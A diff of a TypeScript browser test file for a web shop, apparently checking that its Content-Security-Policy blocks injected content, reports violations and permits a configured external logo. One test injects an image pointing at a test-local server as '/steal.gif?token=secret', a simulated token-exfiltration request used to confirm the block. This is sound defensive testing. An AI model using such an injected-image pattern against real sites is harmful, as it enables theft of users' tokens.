@@ -1,11 +1,12 @@
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import type { Page } from 'playwright';
 import { afterAll, beforeAll, expect, inject, test } from 'vitest';
-import { openDatabase } from '#api/database/open.ts';
 import { write } from '#api/database/transaction.ts';
 import { readSettings, saveSettings } from '#api/services/store/settings.ts';
+import { readPolicy } from '#tests/support/browser/addresses.ts';
 import { startSmallShop } from '#tests/support/browser/shared-shops.ts';
-import { newDataDir, type RunningShop, startShop } from '#tests/support/browser/shop-server.ts';
+import { newDataDir, openRecords, type RunningShop, startShop } from '#tests/support/browser/shop-server.ts';
 import { openPage } from '#tests/support/browser/test-page.ts';
 
 /** Another site that records its requests and answers with a picture. */
@@ -31,11 +32,9 @@ afterAll(async () => {
 const metrics = async (): Promise<string> =>
   (await fetch(`${shop.url}/metrics`, { headers: { authorization: 'Bearer m3trics' } })).text();
 
-test('an injected picture is blocked, and the shop gets a report', async () => {
-  const { page } = await openPage();
-  await page.goto(shop.url);
-  const report = page.waitForRequest((request) => request.url() === `${shop.url}/csp-reports`);
-  const blocked = await page.evaluate(
+/** Adds a picture of another site to a page; resolves to the directive that blocks it. */
+const injectPicture = (page: Page): Promise<string> =>
+  page.evaluate(
     (source) =>
       new Promise<string>((resolve) => {
         document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
@@ -45,10 +44,23 @@ test('an injected picture is blocked, and the shop gets a report', async () => {
       }),
     `${elsewhere}/steal.gif?token=secret`,
   );
-  expect(blocked).toBe('img-src');
+
+test('the shop gets a report of a blocked picture', async () => {
+  const { page } = await openPage();
+  await page.goto(shop.url);
+  const report = page.waitForRequest((request) => request.url() === `${shop.url}/csp-reports`);
+  expect(await injectPicture(page)).toBe('img-src');
   expect((await (await report).response())?.status()).toBe(204);
   expect(asked).toEqual([]);
-  expect(await metrics()).toContain('shop_csp_violations_total{directive="img-src"} 1');
+  // Several servers are asked in turn; one of them has got the report.
+  await expect.poll(metrics).toContain('shop_csp_violations_total{directive="img-src"} 1');
+});
+
+test('an injected picture is blocked', async () => {
+  const { page } = await openPage();
+  await page.goto(`${shop.url}/faq`);
+  expect(await injectPicture(page)).toBe('img-src');
+  expect(asked).toEqual([]);
 });
 
 test('an injected base address is ignored', async () => {
@@ -63,26 +75,23 @@ test('an injected base address is ignored', async () => {
   expect(resolved).toBe(shop.url);
 });
 
-test('a picture at an external address is shown, from a local store and from a remote one', async () => {
+test.for(['local', 'remote'])('a picture at an external address is shown, from a %s store', async (place) => {
   const own = await startSmallShop();
+  const remote = place === 'remote' ? await startShop(newDataDir(), { STORE_API_URL: own.apiUrl }) : undefined;
   try {
-    const db = await openDatabase(own.dataDir);
+    const db = await openRecords(own);
     await write(db, async (tx) => saveSettings(tx, { ...(await readSettings(tx)), logo: `${elsewhere}/logo.svg` }));
     await db.destroy();
-    const site = await startShop(newDataDir(), { STORE_API_URL: `${own.url}/api` });
-    try {
-      for (const url of [own.url, site.url]) {
-        asked.length = 0;
-        const { page, pageErrors } = await openPage();
-        const response = await page.goto(url);
-        expect(response?.headers()['content-security-policy']).toMatch(new RegExp(`img-src 'self' data:[^;]* ${elsewhere}[ ;]`));
-        await expect.poll(() => asked).toContain('/logo.svg');
-        expect(pageErrors).toEqual([]);
-      }
-    } finally {
-      await site.stop();
-    }
+    await own.publish();
+    asked.length = 0;
+    const { page, pageErrors } = await openPage();
+    const response = await page.goto((remote ?? own).url);
+    const policy = response ? await readPolicy({ headers: response.headers(), text: () => response.text() }) : '';
+    expect(policy).toMatch(new RegExp(`img-src 'self' data:[^;]* ${elsewhere}[ ;]`));
+    await expect.poll(() => asked).toContain('/logo.svg');
+    expect(pageErrors).toEqual([]);
   } finally {
+    await remote?.stop();
     await own.stop();
   }
 });
